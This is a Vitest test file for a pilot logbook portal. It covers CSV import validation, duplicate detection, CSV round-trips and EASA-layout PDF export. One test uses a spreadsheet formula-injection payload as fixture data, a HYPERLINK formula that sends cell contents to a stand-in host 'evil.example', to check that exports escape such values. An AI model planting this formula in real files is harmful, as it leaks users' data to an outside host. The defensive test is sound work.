import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/app';
import { signIn, TestClient } from '../../../test/client';
import { buildUser } from '../../../test/factories';
import { buildLogbookEntry } from '../../../test/factories/flights';
import { addDays } from '../../lib/dates';

/** A browser's file upload: multipart form data with the CSV in the field `file`. */
function upload(client: TestClient, csv: string, query = '', field = 'file') {
  const boundary = 'portal-test-boundary';
  const body = [
    `--${boundary}`,
    `Content-Disposition: form-data; name="${field}"; filename="flugbuch.csv"`,
    'Content-Type: text/csv',
    '',
    csv,
    `--${boundary}--`,
    '',
  ].join('\r\n');
  return client.post(`/api/logbook/import${query}`, body, { 'content-type': `multipart/form-data; boundary=${boundary}` });
}

const HEADER =
  'date;departure_place;departure_time;arrival_place;arrival_time;aircraft_type;registration;total_minutes;pic_minutes;landings_day;remarks';
const GOOD_AND_BAD = [
  HEADER,
  '2024-07-01;EDTY;09:00;EDNY;10:10;C172;D-EABC;;1:10;1;Bodensee',
  '2024-07-02;EDNY;11:00;EDTY;12:05;C172;D-EABC;65;65;1;"Rückflug; mit Gegenwind"',
  '2024-07-03;EDTY;09:00;EDTY;08:00;C172;D-EABC;;;1;Ankunft vor Abflug',
  '2024-07-04;EDTY;09:00;;10:00;C172;D-EABC;;;1;ohne Ziel',
  '2024-07-05;EDTY;9 Uhr;EDTY;10:00;C172;D-EABC;;;1;Uhrzeit',
  '2024-07-01;EDTY;09:00;EDNY;10:30;C172;d-eabc;;;1;doppelt in der Datei',
  '2024-07-06;EDTY;09:00;EDTY;10:00;C172;D-EABC;eine Stunde;;1;Dauer',
].join('\n');

describe('logbook import and export', () => {
  const t = useTestApp();
  let client: TestClient;
  beforeAll(async () => {
    client = await signIn(t.app, (await buildUser(t.db, { name: 'Jürgen Größer' })).email);
  });

  it('previews an import without saving, naming each bad row and its reason', async () => {
    const preview = await upload(client, GOOD_AND_BAD, '?dry_run=true');
    expect(preview.statusCode).toBe(200);
    expect(preview.json().data).toEqual({
      rows: 7,
      new: 2,
      duplicates: 1,
      errors: [
        {
          row: 4,
          message: expect.stringContaining('arrival_time: The arrival must be after the departure'),
          field: 'arrival_time',
          code: 'logbook.arrival_after_departure',
          params: {},
        },
        {
          row: 5,
          message: expect.stringContaining('arrival_place: This field is required'),
          field: 'arrival_place',
          code: 'logbook.place_required',
          params: {},
        },
        {
          row: 6,
          message: 'departure_time: Enter the time as HH:MM (UTC).',
          field: 'departure_time',
          code: 'logbook.time_format',
          params: {},
        },
        {
          row: 8,
          message: expect.stringContaining('total_minutes:'),
          field: 'total_minutes',
          code: expect.any(String),
          params: {},
        },
      ],
    });
    expect((await client.get('/api/logbook/entries')).json().data).toEqual([]);
  });

  it('saves the good rows, and skips them as duplicates the second time', async () => {
    const saved = (await upload(client, GOOD_AND_BAD)).json().data;
    expect(saved).toMatchObject({ rows: 7, new: 2, duplicates: 1 });
    const entries = (await client.get('/api/logbook/entries')).json().data;
    expect(entries).toMatchObject([
      { date: '2024-07-02', total_minutes: 65, remarks: 'Rückflug; mit Gegenwind' },
      { date: '2024-07-01', total_minutes: 70, pic_minutes: 70, source: 'personal' },
    ]);
    expect((await upload(client, GOOD_AND_BAD)).json().data).toMatchObject({ new: 0, duplicates: 3 });
  });

  it('reports a row with a null character or a day that does not exist, and saves the good rows, also after a dry run', async () => {
    const importer = await signIn(t.app, (await buildUser(t.db)).email);
    const file = [
      HEADER,
      '2024-08-01;EDTY;09:00;EDNY;10:10;C172;D-EABC;;;1;gut',
      '2024-08-02;EDTY;09:00;EDNY;10:10;C172;D-EABC;;;1;Null\u0000zeichen',
      '0000-01-01;EDTY;09:00;EDNY;10:10;C172;D-EABC;;;1;Jahr null',
      '2024-08-03;EDTY;09:00;EDNY;10:10;C172;D-EABC;;;1;auch gut',
    ].join('\n');
    const expected = {
      rows: 4,
      new: 2,
      duplicates: 0,
      errors: [
        {
          row: 3,
          message: 'remarks: This text contains a null character (code 0), which is not allowed',
          field: 'remarks',
          code: 'validation.nul_character',
          params: {},
        },
        { row: 4, message: 'date: Invalid format', field: 'date', code: 'validation.format', params: {} },
      ],
    };
    const preview = await upload(importer, file, '?dry_run=true');
    expect(preview.statusCode).toBe(200);
    expect(preview.json().data).toEqual(expected);
    const saved = await upload(importer, file);
    expect(saved.statusCode).toBe(200);
    expect(saved.json().data).toEqual(expected);
    const entries = (await importer.get('/api/logbook/entries')).json().data;
    expect(entries.map((entry: { remarks: string }) => entry.remarks)).toEqual(['auch gut', 'gut']);

    const badHeader = await upload(importer, `date;remarks\u0000\n2024-08-04;x`);
    expect(badHeader.statusCode).toBe(422);
    expect(badHeader.json().errors.file[0]).toContain('row 1');
  });

  it('refuses what is not a logbook file', async () => {
    expect((await upload(client, 'name,email\nA,b')).json().errors).toHaveProperty('file');
    expect((await upload(client, '')).json().errors).toHaveProperty('file');
    expect((await upload(client, GOOD_AND_BAD, '', 'document')).json().errors).toHaveProperty('file');
    expect((await client.post('/api/logbook/import', { file: 'x' })).statusCode).toBe(422);
  });

  it('exports CSV that imports again into another logbook, entry for entry', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const source = await buildUser(t.db);
    for (let day = 1; day <= 30; day++) {
      await buildLogbookEntry(t.db, source.id, {
        date: addDays(today, -day),
        remarks: day === 3 ? 'Überlandflug, "Föhn"' : null,
      });
    }
    await buildLogbookEntry(t.db, source.id, {
      date: addDays(today, -40),
      departurePlace: null,
      arrivalPlace: null,
      departureAt: null,
      arrivalAt: null,
      totalMinutes: 0,
      seMinutes: 0,
      picMinutes: 0,
      landingsDay: 0,
      fstdType: 'FNPT II',
      fstdMinutes: 95,
    });
    const exporter = await signIn(t.app, source.email);
    const csv = await exporter.get('/api/logbook/export?format=csv');
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.headers['content-disposition']).toMatch(/attachment; filename="logbook-.*\.csv"/);
    expect(csv.body).toContain('1:00');

    const target = await signIn(t.app, (await buildUser(t.db)).email);
    expect((await upload(target, csv.body)).json().data).toEqual({ rows: 31, new: 31, duplicates: 0, errors: [] });
    const strip = (entries: Record<string, unknown>[]) => entries.map(({ id, ...rest }) => rest);
    const original = (await exporter.get('/api/logbook/entries?paginate=false')).json().data;
    const copy = (await target.get('/api/logbook/entries?paginate=false')).json().data;
    expect(strip(copy)).toEqual(strip(original));
    expect((await upload(exporter, csv.body)).json().data).toMatchObject({ new: 0, duplicates: 31 });
  });

  it('exports text that a spreadsheet would run as a formula with an apostrophe, and imports it back unchanged', async () => {
    const source = await buildUser(t.db);
    await buildLogbookEntry(t.db, source.id, {
      date: '2025-05-01',
      remarks: '=HYPERLINK("http://evil.example/?"&A1,"Details")',
      picName: '@Jürgen',
      aircraftType: '+C172',
      registration: '-DEABC',
    });
    const exporter = await signIn(t.app, source.email);
    const csv = (await exporter.get('/api/logbook/export?format=csv')).body;
    const [, row] = csv.split('\n');
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Details"")"`);
    expect(row).toContain(",'@Jürgen,");
    expect(row).toContain(",'+C172,'-DEABC,");
    expect(row).not.toMatch(/(^|,)[=+\-@]/);

    const target = await signIn(t.app, (await buildUser(t.db)).email);
    expect((await upload(target, csv)).json().data).toMatchObject({ new: 1, errors: [] });
    const [copy] = (await target.get('/api/logbook/entries')).json().data;
    expect(copy).toMatchObject({
      remarks: '=HYPERLINK("http://evil.example/?"&A1,"Details")',
      pic_name: '@Jürgen',
      aircraft_type: '+C172',
      registration: '-DEABC',
    });
  });

  it('prints the logbook as a PDF in the EASA layout', async () => {
    const pilot = await buildUser(t.db, { name: 'Jörg Müller-Lüdenscheidt' });
    for (let day = 1; day <= 45; day++) {
      await buildLogbookEntry(t.db, pilot.id, {
        date: addDays('2026-01-01', day),
        remarks: day % 7 ? null : 'Platzrunden, Übungsflug',
      });
    }
    const owner = await signIn(t.app, pilot.email);
    await owner.put('/api/logbook/carry-forward', {
      total_minutes: 6000,
      pic_minutes: 6000,
      se_minutes: 6000,
      landings_day: 500,
    });
    const pdf = await owner.get('/api/logbook/export?format=pdf');
    expect(pdf.statusCode).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    const bytes = pdf.rawPayload;
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    expect(bytes.toString('latin1').match(/\/Type \/Page\b/g)).toHaveLength(3);
    writeFileSync(join(tmpdir(), 'portal-logbook-test.pdf'), bytes);
    expect((await owner.get('/api/logbook/export?format=xls')).statusCode).toBe(422);
    expect((await new TestClient(t.app).get('/api/logbook/export?format=pdf')).statusCode).toBe(401);
  });
});
